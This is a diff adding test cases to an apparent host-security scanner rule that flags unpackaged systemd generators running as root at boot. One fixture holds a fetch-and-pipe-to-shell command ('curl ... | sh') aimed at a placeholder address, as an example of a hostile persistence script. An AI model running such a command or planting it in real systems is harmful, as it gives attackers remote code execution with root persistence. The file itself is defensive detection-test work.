@@ -68,6 +68,24 @@ export const unpackagedGenerator: HostRule = {
         "/etc/systemd/user-environment-generators/60-x": script("echo A=b"),
         "/etc/systemd/system/a.timer": "[Timer]\n",
       },
+      {
+        ...dpkg([]),
+        "/usr/lib/systemd/system-generators/x": script("curl -s http://192.0.2.7/x | sh"),
+        "/etc/systemd/system/a.timer": "[Timer]\n",
+      },
+      {
+        ...dpkg([]),
+        "/usr/lib/systemd/system-generators/x": { content: "ELF curl", mode: 0o755 },
+        "/etc/systemd/system/a.timer": "[Timer]\n",
+      },
+      {
+        ...dpkg(
+          ["/usr/lib/systemd/system-generators/x"],
+          "00000000000000000000000000000000  usr/lib/systemd/system-generators/x\n",
+        ),
+        "/usr/lib/systemd/system-generators/x": script(),
+        "/etc/systemd/system/a.timer": "[Timer]\n",
+      },
     ],
     finds: {
       1: [
@@ -75,6 +93,15 @@ export const unpackagedGenerator: HostRule = {
       ],
       2: [
         "suspicious high high /etc/systemd/user-environment-generators/60-x:0: /etc/systemd/user-environment-generators/60-x belongs to no package and runs whenever a user's manager starts",
+      ],
+      3: [
+        "hostile critical high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x belongs to no package and runs as root at each boot and reload; it uses curl",
+      ],
+      4: [
+        "suspicious high high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x belongs to no package and runs as root at each boot and reload",
+      ],
+      5: [
+        "suspicious high high /usr/lib/systemd/system-generators/x:0: /usr/lib/systemd/system-generators/x is not what its package ships and runs as root at each boot and reload",
       ],
     },
     quiet: [
